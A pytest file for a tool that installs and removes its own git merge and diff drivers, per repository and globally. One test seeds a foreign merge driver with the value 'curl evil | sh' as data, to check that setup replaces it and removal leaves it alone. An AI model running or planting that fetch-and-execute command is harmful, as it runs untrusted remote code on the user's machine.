"""Git set up and taken down again, in real repositories and a real home folder."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from rubric_studio.errors import GitError, InvalidRubric, WorkspaceError
from rubric_studio.git.drivers import DIFF, EXPECTED, MERGE, Settings
from rubric_studio.store.workspace import Workspace
from rubric_studio.workflows.drivers import set_up, take_out

ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


def everything(workspace: Workspace) -> dict[str, bytes]:
    names = [".gitattributes", ".git/config"]
    return {name: (workspace.root / name).read_bytes() for name in names}


def marked(workspace: Workspace) -> bool:
    found = Settings(workspace.root).attributes(EXPECTED)
    return all(
        is_ == want for path, wanted in EXPECTED.items() for is_, want in zip(found[path], wanted, strict=True) if want
    )


def test_set_up_once_and_take_out_all_of_it(example: Workspace) -> None:
    before = everything(example)
    done = set_up(example)
    assert (done.settings, done.written, done.replaced) == (True, True, ())
    assert done.attributes == example.root / ".gitattributes"
    assert marked(example)
    once = everything(example)
    again = set_up(example)
    assert (again.settings, again.written) == (False, False)
    assert everything(example) == once
    taken = take_out(example)
    assert (taken.settings, taken.written) == (True, True)
    assert everything(example) == before
    nothing = take_out(example)
    assert (nothing.settings, nothing.written) == (False, False)


def test_a_file_that_we_made_goes_again(example: Workspace) -> None:
    (example.root / ".gitattributes").unlink()
    set_up(example)
    assert marked(example)
    take_out(example)
    assert not (example.root / ".gitattributes").exists()


def test_for_all_repositories(example: Workspace, quiet_machine: Path, git) -> None:
    deep = example.root / "below" / "here"
    git(example.root, "config", "--global", "alias.mine", "status")
    done = set_up(None)
    assert done.attributes == quiet_machine / ".config" / "git" / "attributes"
    assert set_up(None).settings is False
    assert marked(example)
    found = Settings(example.root).in_force()
    assert {found[MERGE].scope, found[DIFF].scope} == {"global"}
    (deep / "rubrics").mkdir(parents=True)
    assert marked(Workspace(deep))  # a workspace below the top
    take_out(None)
    assert not done.attributes.exists()
    assert Settings(example.root).in_force() == {}
    assert git(example.root, "config", "--global", "alias.mine") == "status"


def test_the_persons_own_file_is_where_git_says(example: Workspace, quiet_machine: Path, git) -> None:
    mine = quiet_machine / "my attributes"
    mine.write_text("*.doc binary\n")
    git(example.root, "config", "--global", "core.attributesFile", "~/my attributes")
    assert set_up(None).attributes == mine
    assert marked(example)
    take_out(None)
    assert mine.read_text() == "*.doc binary\n"


def test_crlf_stays(example: Workspace) -> None:
    path = example.root / ".gitattributes"
    path.write_bytes(b"*.png binary\r\n")
    set_up(example)
    assert path.read_bytes().count(b"\n") == path.read_bytes().count(b"\r\n") > 5
    assert marked(example)
    take_out(example)
    assert path.read_bytes() == b"*.png binary\r\n"


def test_a_link_is_not_followed_by_git(example: Workspace) -> None:
    path = example.root / ".gitattributes"
    path.rename(example.root / "attributes")
    path.symlink_to("attributes")
    with pytest.raises(WorkspaceError, match="link"):
        set_up(example)
    assert Settings(example.root).in_force() == {}


def test_the_persons_file_may_be_a_link(example: Workspace, quiet_machine: Path) -> None:
    real = quiet_machine / "dotfiles-attributes"
    real.write_text("*.doc binary\n")
    link = quiet_machine / ".config" / "git" / "attributes"
    link.parent.mkdir(parents=True)
    link.symlink_to(real)
    set_up(None)
    assert link.is_symlink()
    assert "rubric-studio" in real.read_text()
    take_out(None)
    assert link.is_symlink()
    assert real.read_text() == "*.doc binary\n"


@pytest.mark.skipif(sys.platform == "win32", reason="modes")
def test_a_protected_file_is_left_alone(example: Workspace) -> None:
    path = example.root / ".gitattributes"
    path.chmod(0o444)
    with pytest.raises(WorkspaceError, match="write-protected"):
        set_up(example)
    assert Settings(example.root).in_force() == {}


def test_a_file_that_is_no_text_is_left_alone(example: Workspace) -> None:
    path = example.root / ".gitattributes"
    path.write_bytes(b"# caf\xe9\n")
    with pytest.raises(InvalidRubric):
        set_up(example)
    assert path.read_bytes() == b"# caf\xe9\n"


def test_a_foreign_driver_is_replaced_when_set_up_and_left_when_taken_out(example: Workspace, git) -> None:
    git(example.root, "config", MERGE, "curl evil | sh")
    git(example.root, "config", "merge.rubric-studio.recursive", "binary")
    taken = take_out(example)
    assert taken.replaced == (f"{MERGE} = curl evil | sh", "merge.rubric-studio.recursive = binary")
    assert git(example.root, "config", MERGE) == "curl evil | sh"
    done = set_up(example)
    assert f"{MERGE} = curl evil | sh" in done.replaced
    assert "merge-driver" in git(example.root, "config", MERGE)
    assert git(example.root, "config", "merge.rubric-studio.recursive") == "binary"
    take_out(example)
    assert git(example.root, "config", "--get-regexp", "rubric-studio") == "merge.rubric-studio.recursive binary"


def test_no_history(example: Workspace) -> None:
    import shutil

    shutil.rmtree(example.root / ".git")
    with pytest.raises(GitError):
        set_up(example)


def test_the_command(example: Workspace, studio) -> None:
    root = str(Path(__file__).parents[2])

    def run(*arguments: str):
        return studio("git", *arguments, cwd=example.root, env={"PYTHONPATH": root})

    first = run("setup")
    assert (first.returncode, first.stdout) == (0, "")
    assert "Record that file" in first.stderr
    assert "already" in run("setup").stderr
    assert "Took our lines out" in run("setup", "--remove").stderr
    assert "nothing of ours" in run("setup", "--remove").stderr
    helped = run("--help").stdout
    assert "setup" in helped
    assert "merge-driver" not in helped
    assert "textconv" not in helped
